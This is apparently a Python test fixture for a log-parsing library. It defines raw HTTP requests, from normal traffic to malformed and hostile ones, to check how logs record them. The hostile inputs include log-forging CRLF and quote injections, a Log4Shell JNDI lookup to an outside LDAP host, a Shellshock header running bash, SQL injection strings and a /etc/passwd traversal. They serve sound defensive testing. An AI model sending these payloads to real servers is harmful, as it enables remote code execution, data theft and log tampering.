"""Requests that attackers send, and what a log says of them if it says what was sent."""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import dataclass
from posixpath import normpath
from typing import TYPE_CHECKING, Final
from urllib.parse import unquote_to_bytes

from logscrub.schema import Raw

if TYPE_CHECKING:
    from collections.abc import Mapping

    from logscrub.schema import Parsed

Row = dict[Raw, object]

FORGED: Final = b'" 200 1 "x" "y" [01/Jan/2000:00:00:00 +0000]'
"""Closes the field and says what a server would say next."""
FORGED_LINE: Final = (
    b'203.0.113.66 - - [01/Jan/2000:00:00:00 +0000] "GET /forged HTTP/1.1" 200 1 "-" "-"'
)
_LETTERS: Final = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_")


@dataclass(frozen=True, slots=True)
class Request:
    """The bytes of one connection, and a name that is nowhere else."""

    name: str
    data: bytes

    @property
    def line(self) -> bytes:
        """The request line; servers skip line ends before it."""
        return self.data.lstrip(b"\r\n").split(b"\n", 1)[0].removesuffix(b"\r")

    def header(self, name: bytes) -> bytes:
        """The value of a header, without the blanks around it; nothing where it is absent."""
        for line in self.data.split(b"\n")[1:]:
            key, colon, value = line.partition(b":")
            if colon and key.lower() == name.lower():
                return value.strip(b" \t\r")
        return b""


def text(sent: bytes) -> str | None:
    """The bytes as a column shows them: `-` cannot be told from nothing."""
    return None if sent in (b"", b"-") else sent.decode("utf-8", "replace")


def target(sent: bytes) -> Row:
    """Path and query of a target."""
    if sent != b"*" and not sent.startswith((b"/", b"http://", b"https://")):
        return {Raw.PATH: None, Raw.QUERY: None}
    before, _, _ = sent.partition(b"#")
    path, _, query = before.partition(b"?")
    return {Raw.PATH: text(path), Raw.QUERY: text(query)}


def asked(line: bytes) -> Row:
    """Method, path, query and protocol of a request line, split from both ends; see `targets.of_requests`."""
    if len(line) <= len(b"- - -") and not line.strip(b" -"):
        return dict.fromkeys((Raw.METHOD, Raw.PATH, Raw.QUERY, Raw.PROTOCOL))
    method, _, rest = line.partition(b" ")
    before, _, last = rest.rpartition(b" ")
    spoken = bool(before) and last.startswith(b"HTTP/")
    sent = before if spoken else rest
    row = target(sent)
    connect = method == b"CONNECT" and sent != b"" and b" " not in sent
    if not (method and _LETTERS.issuperset(method) and (row[Raw.PATH] or connect)):
        return {Raw.METHOD: "", Raw.PATH: None, Raw.QUERY: None, Raw.PROTOCOL: ""}
    protocol = last.decode("utf-8", "replace") if spoken else "" if b" " in sent else "HTTP/0.9"
    return {Raw.METHOD: method.decode(), Raw.PROTOCOL: protocol, **row}


def sent(request: Request) -> Row:
    """The row of a server that logs what it was sent."""
    return {
        **asked(request.line),
        Raw.REFERER: text(request.header(b"Referer")),
        Raw.AGENT: text(request.header(b"User-Agent")),
        Raw.FORWARDED: text(request.header(b"X-Forwarded-For")),
    }


def looked_up(path: object) -> str | None:
    """A path as servers look it up: decoded, without `//`, `.` and `..`; then a `?` in it looks like the query's."""
    if not isinstance(path, str):
        return None
    decoded = unquote_to_bytes(path).decode("utf-8", "replace")
    whole = normpath(decoded) + "/" * (decoded.endswith("/") and decoded != "/")
    return re.split("[?#]", whole)[0]


def differences(found: Mapping[Raw, object], expected: Mapping[Raw, object]) -> Row:
    """What is found, of the columns where it is not what is expected."""
    return {raw: found[raw] for raw in found if raw in expected and found[raw] != expected[raw]}


def rows(found: Parsed) -> list[Row]:
    """The columns turned into rows."""
    return [
        dict(zip(found.columns, values, strict=True))
        for values in zip(*(column.to_pylist() for column in found.columns.values()), strict=True)
    ]


def _ask(
    name: str,
    path: bytes = b"",
    *headers: tuple[bytes, bytes],
    method: bytes = b"GET",
    protocol: bytes = b"HTTP/1.1",
    host: bytes = b"shop.example",
    whole: bytes = b"",
) -> Request:
    """A request whose path begins with its name, unless the whole target is given."""
    where = whole or b"/" + name.encode() + path
    lines = [b" ".join((method, where, protocol)), b"Host: " + host, b"Connection: close"]
    lines += [b": ".join(header) for header in headers]
    return Request(name, b"\r\n".join([*lines, b"", b""]))


def _basic(name: str, user: bytes) -> Request:
    return _ask(name, b"", (b"Authorization", b"Basic " + b64encode(user + b":pw")))


_UA: Final = b"User-Agent"
_REF: Final = b"Referer"
_XFF: Final = b"X-Forwarded-For"

REQUESTS: Final = (
    _ask("plain"),
    _ask("browser", b"/a/b.html?x=1", (_UA, b"Mozilla/5.0 (X11)"), (_REF, b"https://ref.example/?q=1")),
    # what is quoted, escaped or cut
    _ask("ua_quotes", b"", (_UA, b'say "hi" back\\slash \\x41 \\" \\\\" end\\')),
    _ask("ua_tab", b"", (_UA, b"a\tb\t\tc")),
    _ask("ua_controls", b"", (_UA, b"a\x01b\x7fc\x1b[31m")),
    _ask("ua_utf8", b"", (_UA, "Möñ 日本 🦀".encode())),
    _ask("ua_latin1", b"", (_UA, b"Caf\xe9 \xff\xfe \xc3")),
    _ask("ua_bom", b"", (_UA, b"\xef\xbb\xbfx \xe2\x80\xae y \xc2\x85 z")),
    _ask("ua_empty", b"", (_UA, b"")),
    _ask("ua_dash", b"", (_UA, b"-"), (_REF, b"-")),
    _ask("ua_blanks", b"", (_UA, b"  two  blanks  ")),
    _ask("ua_twice", b"", (_UA, b"first"), (_UA, b"second")),
    _ask("ua_long", b"", (_UA, b"U" * 6_000)),
    _ask("ua_json", b"", (_UA, b'","status":"999","x":"\\u0041\\')),
    _ask("ua_percent", b"", (_UA, b"%s%n$remote_addr%{x}i")),
    # log forging
    _ask("forge_referer", b"", (_REF, FORGED)),
    _ask("forge_agent", b"", (_UA, FORGED)),
    _ask("forge_path", b'" 200 1'),
    _ask("forge_quote", b'/x"%20200%201%20"-"%20"-"'),
    _ask("forge_lf", b"%0a" + FORGED_LINE.replace(b" ", b"%20")),
    _ask("forge_crlf", b"/%0d%0a" + FORGED_LINE.replace(b" ", b"%20") + b"%0d%0a?%0a"),
    _ask("forge_header", b"", (_REF, b"\\n" + FORGED_LINE)),
    _ask("forge_fold", b"", (_UA, b"a\r\n " + FORGED_LINE)),
    _ask("forge_cr", b"", (_UA, b"a\r" + FORGED_LINE)),
    _basic("user_blanks", b"John Doe"),
    _basic("user_time", b'x [01/Jan/2000:00:00:00 +0000] "GET /forged HTTP/1.1" 200 1'),
    _basic("user_bracket", b'no] "x [y'),
    _basic("user_quote", b'quo"te\\'),
    _basic("user_email", b"alice@example.com"),
    _basic("user_lf", b"a\nb\r\nc\td"),
    _basic("user_empty", b""),
    _basic("user_latin1", b"j\xf6rg"),
    # what claims to be somebody else
    _ask("xff_list", b"", (_XFF, b"203.0.113.7, 2001:db8::1, 10.0.0.1")),
    _ask("xff_garbage", b"", (_XFF, b'unknown, "q", 192.0.2.4:5678, [2001:db8::2]:443, for=192.0.2.43')),
    _ask("xff_forged", b"", (_XFF, FORGED_LINE)),
    _ask("cookie", b"", (b"Cookie", b'sid=SECRET123; q="x y"')),
    _ask("host_quote", host=b'evil"host<>'),
    _ask("host_ipv6", host=b"[2001:db8::1]:8080"),
    _ask("host_blank", host=b"two hosts"),
    # attacks on what reads the log
    _ask("log4shell", b"/?x=${jndi:ldap://203.0.113.66/a}", (_UA, b"${jndi:ldap://203.0.113.66/a}")),
    _ask("shellshock", b"/cgi-bin/x", (_UA, b'() { :; }; /bin/bash -c "id"')),
    _ask("sqli", b"/?id=1'%20UNION%20SELECT%201,2--", (_REF, b"' OR 1=1 --")),
    # targets
    _ask("query_only", b"?a=b&c=%20d#frag"),
    _ask("fragment", b"/a#frag?x"),
    _ask("matrix", b";jsessionid=6BEF030AB1677BEC?x=1"),
    _ask("raw_utf8", "/jörg/日本?q=ü".encode()),
    _ask("raw_latin1", b"/caf\xe9?q=\xff"),
    _ask("raw_quotes", b'/a"b\\c?x="y"\\'),
    _ask("blanks", b"/a b  c"),
    _ask("tab", b"/a\tb"),
    _ask("percent", b"/%zz%1"),
    _ask("percent_nul", b"/a%00b"),
    _ask("percent_slash", b"/a%2Fb//c/./d?e=%2f"),
    _ask("percent_ask", b"/a%3fb%23c?d=e"),
    _ask("dots", b"/../../../etc/passwd"),
    _ask("long_url", b"?" + b"A" * 7_000),
    _ask("too_long_url", b"?" + b"B" * 70_000),
    _ask("absolute", whole=b"http://user:pw@shop.example/absolute?y=1"),
    _ask("connect", whole=b"shop.example:443", method=b"CONNECT"),
    _ask("star", whole=b"*", method=b"OPTIONS"),
    # methods and protocols
    _ask("head", method=b"HEAD"),
    _ask("lower", method=b"get"),
    _ask("odd_method", method=b"FOO-BAR"),
    _ask("brew", method=b"BREW"),
    _ask("symbol_method", method=b"G@T"),
    _ask("http12", protocol=b"HTTP/1.2"),
    _ask("http30", protocol=b"HTTP/3.0"),
    _ask("no_version", protocol=b"HTTP/"),
    _ask("ftp", protocol=b"FTP/1.1"),
    Request("http09", b"GET /http09\r\n"),
    Request("http10", b"GET /http10 HTTP/1.0\r\n\r\n"),
    Request("no_host", b"GET /no_host HTTP/1.1\r\nConnection: close\r\n\r\n"),
    Request("bare_lf", b"GET /bare_lf HTTP/1.1\nHost: shop.example\nConnection: close\n\n"),
    Request("empty_lines", b"\r\n\r\nGET /empty_lines HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
    Request("bad_header", b"GET /bad_header HTTP/1.1\r\nHost: a\r\nno colon here\r\nConnection: close\r\n\r\n"),
    # no HTTP at all
    Request("tls", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(256))),
    Request("rdp", b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00"),
    Request("t3", b"t3 12.1.2\nAS:255\n\n"),
    Request("http2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    Request("nul_path", b"GET /nul_path\x00x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"),
    Request("nul_header", b"GET /nul_header HTTP/1.1\r\nHost: a\r\nUser-Agent: a\x00b\r\nConnection: close\r\n\r\n"),
    Request("forged_line", FORGED_LINE + b"\r\n\r\n"),
    Request("line_ends", b"\r\n\r\n"),
    Request("nothing", b""),
    Request("partial", b"GET /partial HTTP/1.1\r\nHost: shop.ex"),
)  # fmt: skip
"""Each name stands in the path, where there is one."""
